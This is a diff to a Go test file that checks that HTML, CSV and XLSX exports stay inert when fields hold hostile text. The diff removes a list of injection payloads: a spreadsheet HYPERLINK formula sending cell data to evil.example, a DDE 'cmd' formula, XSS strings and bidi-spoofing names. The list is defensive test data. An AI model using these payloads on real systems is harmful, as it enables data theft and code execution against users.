@@ -11,24 +11,14 @@ import (
 	"slices"
 	"strings"
 	"testing"
-	"unicode"
 	"unicode/utf8"
 
 	"fairshare/calc"
 	"fairshare/mapping"
+	"fairshare/testdata/hostile"
 
 	"golang.org/x/net/html"
 )
-
-// hostile are texts that somebody may have typed into OFBiz.
-var hostile = []string{
-	`=HYPERLINK("http://evil.example/?"&A1,"click")`, `=1+1`, `=cmd|'/c calc'!A0`, `+1+1`, `-2+3`, `@SUM(1;1)`,
-	"\t=1+1", "\r=1+1", "\n=1+1", ` =1+1`, `"=1+1`, `'=1+1`, `a;=1+1`, `a,=1+1`, `a;"=1+1"`, `＝1+1`, "a\r\n=1+1",
-	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `</title><script>alert(1)</script>`,
-	`" onmouseover="alert(1)`, `' onload='alert(1)`, `javascript:alert(1)`, `{{.Settlement}}`, `<!-- --`, `]]>`, `&lt;b&gt;&amp;`,
-	"a\u202egnp.exe", "\u2066a\u2069", "zero\u200bwidth", "\ufeffbom", "nul\x00inside", "bell\x07esc\x1b[31m", "line\u2028end",
-	"\xff\xfe broken", "\ufffe\uffff", "_x000D_=1", "😀👩‍👩‍👧🇭🇺", "Ő ű ß ﷽ 漢字", strings.Repeat("long", 1250), `\\server\share`, `%s%d%n`,
-}
 
 // poisoned puts a text into every field of a statement that comes from OFBiz.
 func poisoned(text string) mapping.Statement {
@@ -68,11 +58,8 @@ func poisonedFinance(text string) mapping.Finance {
 }
 
 func TestHostileTextStaysText(t *testing.T) {
-	if len(hostile) < 40 {
-		t.Fatalf("only %d texts", len(hostile))
-	}
 	check := map[string]func(*testing.T, []byte, []byte){"html": inertHTML, "csv": inertCSV, "xlsx": inertXLSX}
-	for i, text := range hostile {
+	for i, text := range hostile.Texts() {
 		for _, format := range Formats {
 			t.Run(fmt.Sprintf("%d/%s", i, format), func(t *testing.T) {
 				check[format](t, render(t, format, poisoned("harmless")).Content, render(t, format, poisoned(text)).Content)
@@ -112,7 +99,7 @@ func noHidden(t *testing.T, text string) {
 		t.Error("broken UTF-8")
 	}
 	for _, r := range text {
-		if hidden(r) && r != '\n' && r != '\r' {
+		if shown := string(r); mapping.Shown(shown) != shown && r != '\n' && r != '\r' {
 			t.Errorf("%U is still there", r)
 		}
 	}
@@ -203,33 +190,4 @@ func formulas(t *testing.T, content []byte) []string {
 		}
 	})
 	return all
-}
-
-func TestShown(t *testing.T) {
-	for text, want := range map[string]string{
-		"Kőhalmi Gergő":  "Kőhalmi Gergő",
-		"a\x00b\r\nc\td": "a␀b␍␊c␉d",
-		"\x7f\u0085":     "␡[U+0085]",
-		"a\u202eb":       "a[U+202E]b",
-		"\xff":           "\ufffd",
-		"👩‍👧🇭🇺":          "👩‍👧🇭🇺",
-		"\ufeffx\uffff":  "[U+FEFF]x[U+FFFF]",
-	} {
-		if got := shown(text); got != want {
-			t.Errorf("shown(%q) = %q, want %q", text, got, want)
-		}
-	}
-}
-
-// FuzzShown: what is shown has nothing hidden in it, and showing it again changes nothing.
-func FuzzShown(f *testing.F) {
-	for _, text := range hostile {
-		f.Add(text)
-	}
-	f.Fuzz(func(t *testing.T, text string) {
-		got := shown(text)
-		if strings.ContainsFunc(got, func(r rune) bool { return hidden(r) || unicode.IsControl(r) }) || shown(got) != got {
-			t.Errorf("shown(%q) = %q", text, got)
-		}
-	})
 }
